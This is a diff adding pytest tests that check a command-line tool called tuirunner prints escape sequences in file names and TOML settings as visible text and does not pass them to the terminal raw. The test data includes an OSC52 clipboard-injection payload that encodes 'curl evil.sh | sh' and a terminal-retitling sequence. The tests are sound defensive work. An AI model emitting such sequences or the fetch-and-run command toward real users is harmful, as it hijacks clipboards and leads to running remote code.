@@ -23,3 +23,45 @@ def test_deeply_nested_toml_is_one_line_in_every_command(tmp_path, command):
     assert result.stderr.strip().splitlines() == [
         "tuirunner: error: pyproject.toml: invalid TOML: nested too deeply"
     ]
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # sets the clipboard to `curl evil.sh | sh`
+OSC2 = "\x1b]2;pwned\x07"  # retitles the terminal
+
+
+def _spelled_only(output: str) -> None:
+    assert "\x1b" not in output and "\x07" not in output, repr(output)
+    assert "\\x1b]52;c;" in output or "\\x1b]2;" in output, repr(output)
+
+
+def test_a_settings_value_with_escapes_is_spelled_out_in_the_error(tmp_path):
+    write_files(
+        tmp_path,
+        {
+            "Procfile": "web: true\n",
+            "pyproject.toml": '[tool.tuirunner]\nprocfile = "P\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g='
+            '\\u0007\\u001b]2;pwned\\u0007"\n',
+        },
+    )
+    for command in (["check"], [], ["export", "systemd", "out"]):
+        result = run_cli(command, tmp_path)
+        assert result.returncode == 1
+        _spelled_only(result.stderr)
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["check", "-f", f"Procfile{OSC52}{OSC2}"],
+        ["check", "-d", f"dir{OSC52}{OSC2}"],
+        ["ps", "-d", f"dir{OSC2}"],
+        ["logs", "-d", f"dir{OSC2}"],
+        ["check", "-e", f".env{OSC2}"],
+    ],
+)
+def test_paths_from_the_command_line_are_spelled_out_in_errors(tmp_path, args):
+    write_files(tmp_path, {"Procfile": "web: true\n"})
+    (tmp_path / f"dir{OSC2}").mkdir()
+    result = run_cli(args, tmp_path)
+    assert result.returncode != 0
+    _spelled_only(result.stdout + result.stderr)
